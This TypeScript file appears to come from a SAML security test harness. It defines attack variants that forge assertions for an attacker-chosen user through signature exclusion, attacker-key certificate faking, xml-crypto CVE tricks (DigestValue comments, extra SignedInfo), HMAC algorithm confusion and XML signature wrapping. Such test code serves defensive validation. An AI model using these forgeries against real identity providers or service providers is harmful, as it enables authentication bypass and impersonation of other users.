import { createHmac } from 'node:crypto';
import type { AttackContext } from './context.js';
import { element, mutate, setNameId, unsignedClone } from './mutate.js';
import { type AttackVariant, REF } from './variant.js';

const NAMEID = /(<saml2:NameID[^>]*>)[^<]*(<\/saml2:NameID>)/;

/** The message with its NameID text replaced (after signing: the signature no longer covers it). */
export const withNameId = (xml: string, nameId: string) => xml.replace(NAMEID, `$1${nameId}$2`);

/** A signature element removed and the NameID edited: nothing signed vouches for the edit. */
function excluded(ctx: AttackContext, signed: 'response' | 'assertion' | 'both'): string {
  return mutate(ctx.issue({ signed }), ({ response, responseSignature, assertion, assertionSignature }) => {
    if (responseSignature) response.removeChild(responseSignature);
    if (assertionSignature) assertion.removeChild(assertionSignature);
    setNameId(assertion, ctx.evil);
  });
}

/** The attacker's own assertion for the evil user, signed with the attacker's key. */
const attackerSigned = (ctx: AttackContext, signed: 'assertion' | 'both' = 'both') =>
  ctx.issue({ signed, credential: ctx.attacker, fields: { nameId: ctx.evil } });

const HMAC_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256';
const XSLT = 'http://www.w3.org/TR/1999/REC-xslt-19991116';
const XPATH = 'http://www.w3.org/TR/1999/REC-xpath-19991116';
const XSL_NS = 'http://www.w3.org/1999/XSL/Transform';

/** Signature exclusion, certificate faking, algorithm and reference games, xml-crypto CVEs. */
export const SIGNATURE: AttackVariant[] = [
  {
    id: 'exclusion-response',
    title: 'signature exclusion: the only (Response) signature removed, NameID edited',
    reference: `${REF.breakingSaml}; ${REF.samlProfiles('4.1.3.5')}`,
    build: (ctx) => excluded(ctx, 'response'),
  },
  {
    id: 'exclusion-assertion',
    title: 'signature exclusion: the only (Assertion) signature removed, NameID edited',
    reference: `${REF.breakingSaml}; ${REF.samlProfiles('4.1.3.5')}`,
    build: (ctx) => excluded(ctx, 'assertion'),
  },
  {
    id: 'exclusion-both',
    title: 'signature exclusion: Response and Assertion signatures removed, NameID edited',
    reference: `${REF.breakingSaml}; ${REF.samlProfiles('4.1.3.5')}`,
    build: (ctx) => excluded(ctx, 'both'),
  },
  {
    id: 'attacker-key',
    title: 'certificate faking: signed with an attacker key, the attacker certificate in KeyInfo',
    reference: 'CVE-2024-32962 (xml-crypto KeyInfo)',
    build: (ctx) => attackerSigned(ctx),
  },
  {
    id: 'attacker-key-trusted-keyinfo',
    title: 'attacker signature with the trusted certificate copied into KeyInfo',
    reference: `${REF.xmldsig('4.5')} (KeyInfo is no trust)`,
    build: (ctx) => attackerSigned(ctx).split(ctx.attacker.cert.base64).join(ctx.idp.credential.cert.base64),
  },
  {
    id: 'digest-comment',
    title: 'DigestValue with a comment: <!--digest of the edit-->real digest, NameID edited',
    reference: 'CVE-2025-29775 (xml-crypto < 6.0.1)',
    build: (ctx) => {
      const forged = /<ds:DigestValue>([^<]+)</.exec(attackerSigned(ctx, 'assertion'))?.[1] ?? '';
      return withNameId(ctx.issue({ signed: 'assertion' }), ctx.evil).replace(
        '<ds:DigestValue>',
        `<ds:DigestValue><!--${forged}-->`,
      );
    },
  },
  {
    id: 'multiple-signedinfo',
    title: "a second SignedInfo (the attacker's, for the edited assertion) after the real one",
    reference: 'CVE-2025-29774 (xml-crypto < 6.0.1)',
    build: (ctx) => {
      const evil = /<ds:SignedInfo>[\s\S]*?<\/ds:SignedInfo>/.exec(attackerSigned(ctx, 'assertion'))?.[0];
      return withNameId(ctx.issue({ signed: 'assertion' }), ctx.evil).replace(
        '</ds:SignedInfo>',
        `</ds:SignedInfo>${evil ?? ''}`,
      );
    },
  },
  {
    id: 'hmac-confusion',
    title: "algorithm confusion: HMAC-SHA256 keyed with the IdP's public certificate",
    reference: `${REF.xmldsig('6.3')}; algorithm confusion as CVE-2015-9235`,
    build: (ctx) =>
      ctx.issue({
        fields: { nameId: ctx.evil },
        shape: {
          method: {
            uri: HMAC_SHA256,
            sign: (data) => createHmac('sha256', ctx.idp.credential.cert.pem).update(data).digest(),
          },
        },
      }),
  },
  {
    id: 'sha1',
    title: 'signed by the trusted IdP with RSA-SHA1 and a SHA-1 digest',
    reference: `${REF.xmldsig('6.4.2')}; NIST SP 800-131A; SHAttered 2017`,
    build: (ctx) => ctx.issue({ algorithm: 'SHA-1' }),
  },
  {
    id: 'multiple-references',
    title: 'a signature with two References (the same element twice)',
    reference: REF.samlCore('5.4.2 (one Reference)'),
    build: (ctx) => ctx.issue({ shape: { repeatReference: true } }),
  },
  {
    id: 'reference-empty-uri',
    title: 'Response signature with Reference URI="" (the whole document)',
    reference: REF.samlCore('5.4.2 (URI is the element ID)'),
    build: (ctx) => ctx.issue({ signed: 'response', shape: { referenceUri: '' } }),
  },
  {
    id: 'transform-xslt',
    title: 'an XSLT transform in the signed Reference',
    reference: `${REF.samlCore('5.4.4')}; ${REF.xmldsigBp('BP 2')}; Hill, Black Hat 2007`,
    build: (ctx) =>
      ctx.issue({
        shape: {
          extraTransforms:
            `<ds:Transform Algorithm="${XSLT}"><xsl:stylesheet xmlns:xsl="${XSL_NS}" version="1.0">` +
            '<xsl:template match="/"><xsl:copy-of select="."/></xsl:template></xsl:stylesheet></ds:Transform>',
        },
      }),
  },
  {
    id: 'transform-xpath',
    title: 'an XPath filter transform in the signed Reference',
    reference: `${REF.samlCore('5.4.4')}; ${REF.xmldsigBp('BP 3')}`,
    build: (ctx) =>
      ctx.issue({
        shape: {
          extraTransforms: `<ds:Transform Algorithm="${XPATH}"><ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath></ds:Transform>`,
        },
      }),
  },
  {
    id: 'duplicate-id-signed',
    title: 'Response and Assertion share one ID, both signed by the IdP',
    reference: `${REF.samlCore('1.3.4')}; ${REF.breakingSaml}`,
    build: (ctx) => {
      const id = ctx.freshId();
      return ctx.issue({ fields: { responseId: id, assertionId: id } });
    },
  },
  {
    id: 'duplicate-id-before',
    title: "an edited unsigned Assertion with the signed one's ID placed before it",
    reference: `${REF.samlCore('1.3.4')}; ${REF.breakingSaml}`,
    build: (ctx) =>
      mutate(ctx.issue({ signed: 'assertion' }), ({ response, assertion }) => {
        response.insertBefore(setNameId(unsignedClone(assertion), ctx.evil), assertion);
      }),
  },
  {
    id: 'namespace-foreign-assertion',
    title: 'an edited Assertion in a foreign namespace (same prefix and local name) before the signed one',
    reference: `XML Namespaces 1.0 §6; ${REF.breakingSaml}`,
    build: (ctx) =>
      mutate(ctx.issue({ signed: 'assertion' }), ({ doc, response, assertion }) => {
        const copy = setNameId(unsignedClone(assertion), ctx.evil);
        const foreign = element(doc, 'urn:fedsim:attack:not-saml', 'saml2:Assertion');
        for (const a of Array.from(copy.attributes))
          if (a.name !== 'xmlns:saml2') foreign.setAttribute(a.name, a.value);
        while (copy.firstChild) foreign.appendChild(copy.firstChild);
        response.insertBefore(foreign, assertion);
      }),
  },
];
